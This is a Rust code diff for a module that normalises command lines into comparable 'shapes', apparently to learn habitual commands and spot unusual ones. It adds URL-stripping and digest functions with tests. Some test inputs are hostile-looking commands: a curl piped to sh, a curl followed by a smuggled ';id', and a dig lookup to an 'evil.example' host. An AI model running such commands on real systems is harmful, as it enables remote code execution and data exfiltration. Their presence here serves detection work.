@@ -26,6 +26,28 @@ pub(crate) fn template(command_line: &str) -> String {
     bounded(shape)
 }
 
+/// The shape without the places that its URLs name; `None` when it names none. A command that a service runs on whatever address
+/// its users name has one such shape, and a full one for each of them.
+pub(super) fn without_places(shape: &str) -> Option<String> {
+    if !shape.contains("://") {
+        return None;
+    }
+    let mut loose = String::with_capacity(shape.len());
+    for piece in shape.split_inclusive(BREAKS) {
+        let (word, end) = piece
+            .char_indices()
+            .next_back()
+            .filter(|(_, last)| BREAKS.contains(last))
+            .map_or((piece, ""), |(at, _)| piece.split_at(at));
+        match word.split_once("://") {
+            Some((scheme, _)) => loose.extend([scheme, "://*"]),
+            None => loose.push_str(word),
+        }
+        loose.push_str(end);
+    }
+    Some(loose)
+}
+
 fn generalise(word: &str) -> String {
     if word.parse::<std::net::IpAddr>().is_ok() || word.contains("://") || word.starts_with('-') {
         return word.to_owned();
@@ -84,6 +106,11 @@ fn bounded(mut shape: String) -> String {
     format!("{shape}…{digest:016x}")
 }
 
+/// A stable digest of a name, by which forms of one habit are told apart.
+pub(super) fn digest(name: &str) -> u64 {
+    fnv1a(name.as_bytes())
+}
+
 /// FNV-1a, 64 bit (Fowler, Noll, Vo; draft-eastlake-fnv): a stable digest for telling shapes apart, not for security. Who
 /// finds a collision has still to begin with the 256 bytes of a learned command.
 fn fnv1a(bytes: &[u8]) -> u64 {
@@ -107,6 +134,16 @@ mod tests {
         check("dig a1234b.evil.example", "dig a1234b.evil.example");
         check("mysql5 -u root", "mysql5 -u root");
         check("", "");
+    }
+
+    #[test]
+    fn places_are_left_out_and_nothing_else_is() {
+        let check = |shape: &str, expected: Option<&str>| assert_eq!(without_places(shape).as_deref(), expected);
+        check("sh -c git fetch https://192.0.2.7/a.git --prune", Some("sh -c git fetch https://* --prune"));
+        check("curl http://a.example/x|sh", Some("curl http://*|sh"));
+        check("curl http://a.example/x;id", Some("curl http://*;id"));
+        check("sh -c convert a.png", None);
+        check("é http://x é", Some("é http://* é"));
     }
 
     #[test]
